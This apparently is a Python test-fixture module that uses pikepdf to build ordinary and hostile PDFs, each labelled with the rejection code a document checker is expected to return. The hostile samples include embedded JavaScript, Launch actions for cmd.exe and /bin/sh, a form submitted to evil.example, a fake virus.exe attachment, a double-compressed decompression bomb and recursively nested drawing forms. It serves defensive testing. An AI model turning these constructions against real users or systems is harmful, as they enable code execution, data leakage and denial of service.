"""PDFs as clerks send them, and as attackers would; no tests."""

import io
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

MEGABYTE = 1024 * 1024
Change = Callable[[pikepdf.Pdf], None]


def pdf(text: str = "Budget", pages: int = 1, size: tuple[float, float] = A4) -> bytes:
    """Return an ordinary PDF with the text and the page's number on each page."""
    target = io.BytesIO()
    canvas = Canvas(target, pagesize=size, invariant=1)
    for number in range(1, pages + 1):
        canvas.setFont("Helvetica", 24)
        canvas.drawString(60, size[1] - 90, f"{text}, page {number}")
        canvas.showPage()
    canvas.save()
    return target.getvalue()


def changed(change: Change, **saving: object) -> bytes:
    """Return an ordinary PDF after something was done to it."""
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        change(document)
        document.save(target, **saving)  # type: ignore[arg-type]
    return target.getvalue()


def _script(document: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))


def _script_at_opening(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=document.make_stream(b"app.alert(1)"))


def _script_of_a_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def _script_after_another_action(document: pikepdf.Pdf) -> None:
    following = Array([Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=String("x"), Next=following)


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=document.make_stream(b"<xdp/>"))


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _launch_by_a_link(document: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.Launch, F=String("/bin/sh"))
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 99, 99]), A=action)
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])


def _sends_a_form(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["virus.exe"] = b"MZ"


def _attachment_on_a_page(document: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9]))
    document.pages[0].obj.Annots = Array([note])


def _film(document: pikepdf.Pdf) -> None:
    film = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 9, 9]))
    document.pages[0].obj.Annots = Array([film])


def _huge_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.MediaBox = Array([0, 0, 9_000_000, 9_000_000])


def _thread(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.MediaBox = Array([0, 0, 20, 14_000])


def _bomb(document: pikepdf.Pdf) -> None:
    """Put a gigabyte of blanks on a page, packed twice, in a few kilobytes."""
    packer = zlib.compressobj(1)
    begin = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(b" " * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    contents = document.make_stream(b"")
    packed = zlib.compress(begin + again * 1000 + packer.flush())
    contents.write(packed, filter=Array([Name.FlateDecode, Name.FlateDecode]))
    document.pages[0].obj.Contents = contents


def _drawn_for_ever(document: pikepdf.Pdf) -> None:
    """Put forms on a page that draw each other ten times, eight deep: a hundred million squares."""
    name = Name.Next
    form = document.make_stream(b"0 0 300 300 re f\n")
    for _ in range(8):
        outer = document.make_stream(b"/Next Do\n" * 10)
        outer.Type, outer.Subtype, outer.BBox = Name.XObject, Name.Form, Array([0, 0, 600, 800])
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 600, 800])
        outer.Resources = Dictionary(XObject=Dictionary({str(name): form}))
        form = outer
    page = document.pages[0]
    page.obj.Resources = Dictionary(XObject=Dictionary({str(name): form}))
    page.obj.Contents = document.make_stream(b"/Next Do\n")


OLD = pikepdf.Encryption(owner="owner", user="", R=3, metadata=False, aes=False)
LOCKED = pikepdf.Encryption(owner="owner", user="user")
RESTRICTED = pikepdf.Encryption(owner="owner", user="", allow=pikepdf.Permissions(extract=False))
PACKED = pikepdf.ObjectStreamMode.generate

HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "script": (lambda: changed(_script), "paper-has-script"),
    "script in an object stream": (lambda: changed(_script, object_stream_mode=PACKED), "paper-has-script"),
    "script at opening": (lambda: changed(_script_at_opening), "paper-has-script"),
    "script of a page": (lambda: changed(_script_of_a_page), "paper-has-script"),
    "script after another action": (lambda: changed(_script_after_another_action), "paper-has-script"),
    "XFA": (lambda: changed(_xfa), "paper-has-script"),
    "launch": (lambda: changed(_launch), "paper-starts-something"),
    "launch by a link": (lambda: changed(_launch_by_a_link), "paper-starts-something"),
    "form sent": (lambda: changed(_sends_a_form), "paper-starts-something"),
    "attachment": (lambda: changed(_attachment), "paper-has-attachment"),
    "attachment on a page": (lambda: changed(_attachment_on_a_page), "paper-has-attachment"),
    "film": (lambda: changed(_film), "paper-has-attachment"),
    "locked": (lambda: changed(lambda _: None, encryption=LOCKED), "paper-encrypted"),
    "restricted": (lambda: changed(lambda _: None, encryption=RESTRICTED), "paper-encrypted"),
    "restricted as of old": (lambda: changed(lambda _: None, encryption=OLD), "paper-encrypted"),
    "huge page": (lambda: changed(_huge_page), "paper-odd-page"),
    "page like a thread": (lambda: changed(_thread), "paper-odd-page"),
    "bomb": (lambda: changed(_bomb, compress_streams=False), "paper-too-heavy"),
    "drawn for ever": (lambda: changed(_drawn_for_ever), "paper-too-heavy"),
    "truncated": (lambda: pdf(pages=3)[:1500], "paper-broken"),
    "end without the middle": (lambda: pdf()[:300] + b"\n%%EOF\n", "paper-broken"),
    "zip after the end": (lambda: pdf() + b"PK\x03\x04" + bytes(40), "paper-broken"),
    "web page before the beginning": (lambda: b"<script>alert(1)</script>" + pdf(), "paper-not-pdf"),
    "picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(99), "paper-not-pdf"),
    "nothing": (lambda: b"", "paper-not-pdf"),
    "name only": (lambda: b"%PDF-1.7\n%%EOF", "paper-broken"),
    "no pages": (lambda: changed(lambda document: document.pages.__delitem__(0)), "paper-broken"),
}
